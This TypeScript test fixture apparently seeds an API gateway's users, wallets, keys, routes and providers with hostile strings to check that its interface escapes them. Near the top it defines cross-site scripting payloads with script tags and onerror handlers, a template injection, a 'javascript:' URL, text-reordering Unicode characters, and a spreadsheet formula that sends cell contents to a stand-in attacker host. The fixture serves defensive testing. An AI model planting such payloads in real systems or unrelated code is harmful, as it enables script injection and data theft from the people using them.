// A store whose every text somebody hostile has written: each string that a user may supply holds
// markup, a script's address, a template, a spreadsheet's formula, and letters that reorder others.

import { DatabaseSync } from 'node:sqlite';
import { join } from 'node:path';
import { headersOf } from './people.ts';
import type { Server } from './server.ts';
import { Attack, PLACE } from './strings.ts';
import { report, WEBHOOK_SETTINGS } from './webhook.ts';

export const SETTINGS = {
  ...WEBHOOK_SETTINGS,
  TALLYGATE_ENABLE_DIFY_INTEGRATION: 'true',
  TALLYGATE_DIFY_BROWSER_TRUST: 'charge',
  TALLYGATE_MAX_CHARGE_POINTS: '50',
};

const MARKUP = '"><script>trap()</script><img src=x onerror=trap()>{{trap()}}';
const LETTERS = '\u202etxet\u200b\u200d𝒯😈';
export const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
/** What stands everywhere. The formula's sign comes first, or it would be none. */
export const NASTY = `${FORMULA}${MARKUP}${LETTERS}`;
/** Where a text is a name, which has no slashes. */
export const NAME = 'javascript:trap()"><img src=x onerror=trap()>{{trap()}}';

/** The same with a number of its own. */
const TEXT = `${FORMULA}${PLACE}${MARKUP}${LETTERS}`;
/** Where only printable letters are taken. */
const PRINTED = TEXT.replace(LETTERS, '𝒯😈');
/** Where spaces separate. */
const WORD = PRINTED.replaceAll(' ', '/');
/** Where only what a header may hold is taken. */
const PLAIN = WORD.replace('𝒯😈', '');
const ADDRESS = `https://example.com/${PLACE}"><img/src=x/onerror=trap()>`;
const LIMITS = [{ dimension: 'requests', span: 'day', amount: 1000, zone: 'UTC' }];
const DAY = new Date().toISOString().slice(0, 10);
const LATER = new Date(Date.now() + 30 * 86_400_000).toISOString();

interface Made {
  readonly id: string;
}

export async function fill(server: Server, member: string): Promise<Attack> {
  const attack = new Attack(server);
  await fillMoney(server, attack, member);
  await fillBrowserEvents(server, member);
  const team = await fillKeys(server, attack, member);
  await fillTokens(server, attack, team);
  fillAnomalies(server);
  await fillOwn(server, attack, member);
  await fillUpkeep(attack, team, member);
  await fillRoutes(attack);
  await fillTraffic(attack); // last: with a provider the demo model is gone
  return attack;
}

async function fillMoney(server: Server, attack: Attack, member: string): Promise<void> {
  const user = { id: NAME, name: PRINTED, password: TEXT };
  await attack.send('POST', '/api/users', {
    ...{ ...user, email: `"${PLACE}><script>trap()</script>@example.com` },
  });
  await attack.send('PATCH', `/api/users/${encodeURIComponent(NAME)}`, {
    ...{ name: PRINTED, password: TEXT, email: `"${PLACE}><script>trap()</script>@example.org` },
  });
  const prices = { input_token_price: '1', output_token_price: '2', currency: 'points' };
  const price = { ...prices, per_tokens: 1000, reason: TEXT };
  const model = `/api/models/${encodeURIComponent(NAME)}`;
  await attack.send('POST', '/api/models', { model_name: NAME, ...price });
  await attack.send('PATCH', model, price);
  await attack.send('POST', `${model}/aliases`, { alias: PRINTED });
  await attack.send('POST', '/api/prices/calculate', { model: NAME, input_tokens: 1 });
  await attack.send('PUT', '/api/exchange-rate', { rate: '1000', reason: TEXT });
  for (const id of [member, NAME]) await fillWallet(server, attack, id);
  await report(server, { message_id: NASTY, user_id: `${NASTY} nobody`, model_name: NAME });
  await report(server, { message_id: `${NASTY} 2`, user_id: `${NASTY} nobody`, model_name: NAME });
  await attack.send('POST', '/api/dead-letters/1/dismiss', { reason: TEXT });
  await attack.send('POST', '/api/redeem-batches', { count: 2, points: '1', label: TEXT });
  await fillCharges(server, attack);
}

async function fillWallet(server: Server, attack: Attack, id: string): Promise<void> {
  const wallet = `/api/users/${encodeURIComponent(id)}/wallet`;
  await attack.send('PATCH', wallet, { warn_below: '100000' });
  await attack.send('POST', `${wallet}/top-up`, { points: '1000', reason: TEXT });
  await attack.send('POST', `${wallet}/adjust`, { points: '-1', reason: TEXT });
  for (const points of ['5', '6']) {
    await attack.send('POST', `${wallet}/grant`, { points, reason: TEXT, expires_at: LATER });
  }
  const { items } = (await server.call('GET', `${wallet}/grants`)) as { items: Made[] };
  await attack.send('POST', `/api/grants/${items[0]?.id}/void`, { reason: TEXT });
  const hold = { points: '1', owner: TEXT, reason: TEXT };
  for (const end of ['', 'capture', 'release']) {
    const made = await attack.send('POST', `${wallet}/holds`, {
      ...hold,
      owner: `${end} ${NASTY}`,
    });
    if (!end) continue;
    await attack.send('POST', `/api/holds/${made['id']}/${end}`, {
      ...{ owner: `${end} ${NASTY}`, reason: TEXT },
    });
  }
  await attack.send('POST', `${wallet}/holds`, hold);
  await attack.send('POST', '/api/budgets', { points: '1', span: 'total', user_id: id });
  const used = { conversation_id: NASTY, model_name: NAME, input_tokens: 900, output_tokens: 90 };
  for (const message_id of [`${NASTY} ${id}`, `${NASTY} ${id} 2`]) {
    const answer = await report(server, { ...used, message_id, user_id: id, total_tokens: 990 });
    if (!answer.ok) throw new Error(await answer.text());
  }
}

/** A refund, and what an operator has decided of charges that were held for review. */
async function fillCharges(server: Server, attack: Attack): Promise<void> {
  const used = { conversation_id: NASTY, model_name: NAME, input_tokens: 90_000 };
  const said = { ...used, output_tokens: 0, total_tokens: 90_000, user_id: NAME };
  for (const what of ['approve', 'reject', 'keep']) {
    await report(server, { ...said, message_id: `${NASTY} ${what}` });
  }
  const list = async (state: string): Promise<Made[]> =>
    ((await server.call('GET', `/api/charges?state=${state}`)) as { items: Made[] }).items;
  const [first, second] = await list('review');
  await attack.send('POST', `/api/charges/${first?.id}/approve`, { reason: TEXT });
  await attack.send('POST', `/api/charges/${second?.id}/reject`, { reason: TEXT });
  const charge = `/api/charges/${(await list('charged'))[0]?.id}`;
  await attack.send('POST', `${charge}/refund`, { points: '1', reason: TEXT });
}

/** What a member's own browser says that it has seen. */
async function fillBrowserEvents(server: Server, member: string): Promise<void> {
  const said = { conversation_id: NASTY, message_id: `${NASTY} seen`, model_name: NAME };
  const data = { ...said, input_tokens: 10, output_tokens: 1, total_tokens: 11 };
  const answer = await fetch(`${server.url}/api/dify/events`, {
    method: 'POST',
    headers: await headersOf(server, member),
    body: JSON.stringify({ event: 'message_end', data }),
  });
  if (!answer.ok) throw new Error(await answer.text());
}

/** The team that they belong to. */
async function fillKeys(server: Server, attack: Attack, member: string): Promise<string> {
  await attack.send('POST', '/api/teams', { id: NAME, name: PRINTED });
  const team = `/api/teams/${encodeURIComponent(NAME)}`;
  await attack.send('PATCH', team, { name: PRINTED });
  await attack.send('POST', `${team}/members`, { user_id: NAME });
  await attack.send('POST', `${team}/members`, { user_id: member });
  const open = { limits: LIMITS, addresses: ['127.0.0.0/8'], expires_at: LATER };
  for (const user_id of [NAME, member]) {
    const made = await attack.send('POST', '/api/keys', {
      ...{ ...open, label: TEXT, user_id, team_id: NAME, models: ['demo/echo', TEXT] },
      scopes: [WORD],
    });
    await server.chat(made['secret'] ?? '', NASTY, asHeader(NASTY));
    await attack.send('PATCH', `/api/keys/${made['id']}`, {
      ...{ ...open, label: TEXT, models: ['demo/echo', TEXT], scopes: [WORD] },
    });
  }
  const old = { label: TEXT, user_id: NAME };
  const made = await attack.send('POST', '/admin/keys', old);
  await attack.send('PATCH', `/admin/keys/${made['key']}`, { label: TEXT });
  return NAME;
}

async function fillTokens(server: Server, attack: Attack, team_id: string): Promise<void> {
  const fields = { name: TEXT, team_id, scopes: [WORD], models: [TEXT], limits: LIMITS };
  const token = { ...fields, addresses: ['127.0.0.0/8'], expires_at: LATER };
  const made = await attack.send('POST', '/api/tokens', { ...token, user_id: NAME });
  await attack.send('PATCH', `/api/tokens/${made['id']}`, token);
  const now = Date.now();
  const uses = Array.from({ length: 40 }, (_, index) => ({
    token_hash: made['token_hash'],
    route: NASTY,
    timestamp: now - index * 3_000_000,
    user_agent: NASTY.slice(0, 128),
    ip_address: MARKUP.slice(0, 60),
    response_status: index % 3 ? 200 : 500,
    response_time_ms: 40 + index,
  }));
  await server.call('POST', '/api/usage-log', uses);
}

/** What a client can say of itself: headers hold bytes, not letters. */
function asHeader(text: string): string {
  return text.replaceAll(/[^\x20-\x7e]/g, '');
}

/** Put there by hand: it takes weeks of traffic until something counts as strange. */
function fillAnomalies(server: Server): void {
  const use = { request_id: NASTY, at_ms: Date.now(), route: NASTY, model: NAME, status: 200 };
  const evidence = {
    ...{ what: NASTY, expected: 2.5, seen: 80, chance: -12, sources: [NASTY], usual: [NASTY] },
    ...{ hours: [[Math.floor(Date.now() / 1000), 80]], rows: [{ ...use, agent: NASTY }] },
  };
  evidence.rows = evidence.rows.map((row) => ({ ...row, address: MARKUP }));
  const store = new DatabaseSync(join(server.data, 'tallygate.db'));
  try {
    store.exec('PRAGMA busy_timeout = 20000');
    for (const [key, kind] of ['volume', 'source'].entries()) {
      store
        .prepare(
          `INSERT INTO anomaly (kind, key_id, state, started_ms, last_ms, evidence, created_ms,
             acknowledged_by, note, throttle) VALUES (?, ?, 'open', ?, ?, ?, ?, '', '', 'off')`,
        )
        .run(kind, key + 1, use.at_ms, use.at_ms, JSON.stringify(evidence), use.at_ms);
    }
  } finally {
    store.close();
  }
}

/** What a member may say of their own account, and what is said to sign in. */
async function fillOwn(server: Server, attack: Attack, member: string): Promise<void> {
  const headers = await headersOf(server, member);
  const key = { label: TEXT, models: ['demo/echo', TEXT], limits: LIMITS };
  await attack.send('POST', '/api/user/keys', { ...key, addresses: ['127.0.0.0/8'] }, headers);
  await attack.send('PUT', '/api/user/notices/seen', { id: '1' }, headers);
  await attack.send('PATCH', '/api/user', { language: 'en' }, headers);
  const question = { model: NAME, inputTokens: 1 };
  await attack.send('POST', '/api/user/points/check-balance', question, headers);
  const other = { ...question, userId: NAME };
  await attack.send('POST', '/api/user/points/check-balance', other);
  await attack.fail('POST', '/api/user/redeem', { code: NASTY, user_id: '' }, headers);
  const passwords = { current_password: NASTY, password: NASTY };
  await attack.fail('POST', '/api/user/password', passwords, headers);
  await attack.fail('POST', '/api/session', { id: NASTY, password: NASTY });
  await attack.fail('POST', '/api/session', { email: NASTY, password: NASTY });
}

async function fillUpkeep(attack: Attack, team: string, member: string): Promise<void> {
  const budget = { points: '1', span: 'day', zone: 'UTC' };
  const made = await attack.send('POST', '/api/budgets', { ...budget, team_id: team });
  await attack.send('PATCH', `/api/budgets/${made['id']}`, { points: '2' });
  await attack.send('PUT', `/api/teams/${encodeURIComponent(team)}/limits`, { limits: LIMITS });
  await attack.send('PUT', `/api/users/${member}/limits`, { limits: LIMITS });
  await attack.send('POST', '/admin/usage/reset', { day: DAY });
  await attack.send('POST', '/api/anomalies/1/acknowledge', { note: TEXT });
  await attack.send('PUT', '/api/anomalies/throttles/1', { throttle: 'off' });
  const url = `${ADDRESS}/?q=`;
  const names = { name: PRINTED, user: PRINTED, pool: PRINTED };
  const credential = { ...names, secret: PRINTED, variables: { url } };
  const probed = await attack.send('POST', '/api/credentials', {
    ...{ kind: 'bearer-probe', ...credential },
  });
  const other = { ...credential, secret: WORD };
  await attack.send('PATCH', `/api/credentials/${probed['id']}`, other);
}

async function fillRoutes(attack: Attack): Promise<void> {
  const headers = { add: { 'X-A': PLAIN }, remove: ['X-B'], rename: { 'X-C': 'X-D' } };
  const route = {
    ...{ path: '/nasty', backend_url: ADDRESS, scope: TEXT, host: 'a.example', methods: ['GET'] },
    ...{ rewrite: '/other', request_headers: headers, response_headers: headers },
    ...{ credentials: PRINTED, credential_header: 'x-token: {secret}' },
    limits: [{ span: 'day', amount: 1000, per: 'route', zone: 'UTC' }],
  };
  const made = await attack.send('POST', '/api/routes', route);
  await attack.send('PATCH', `/api/routes/${made['id']}`, route);
}

async function fillTraffic(attack: Attack): Promise<void> {
  const app = { instance: PRINTED, api_url: ADDRESS, api_key: PLAIN, model: PRINTED };
  const whole = { ...app, billed_by: 'gateway', hold_points: '1' };
  await attack.send('POST', '/api/dify/apps', { name: 'nasty', ...whole });
  await attack.send('PATCH', '/api/dify/apps/nasty', whole);
  const models = { models: [TEXT], aliases: { [TEXT]: TEXT }, output_tokens_max: { [TEXT]: 9 } };
  const address = { base_url: ADDRESS, protocol: 'openai', passthrough: ['/v1/files'] };
  const provider = { ...address, ...models, secret: PLAIN };
  await attack.send('POST', '/api/providers', { name: 'nasty', ...provider });
  await attack.send('PATCH', '/api/providers/nasty', provider);
  const kept = { ...address, ...models, credentials: TEXT };
  await attack.send('POST', '/api/providers', { name: 'kept-nasty', ...kept });
  await attack.send('PATCH', '/api/providers/kept-nasty', kept);
}
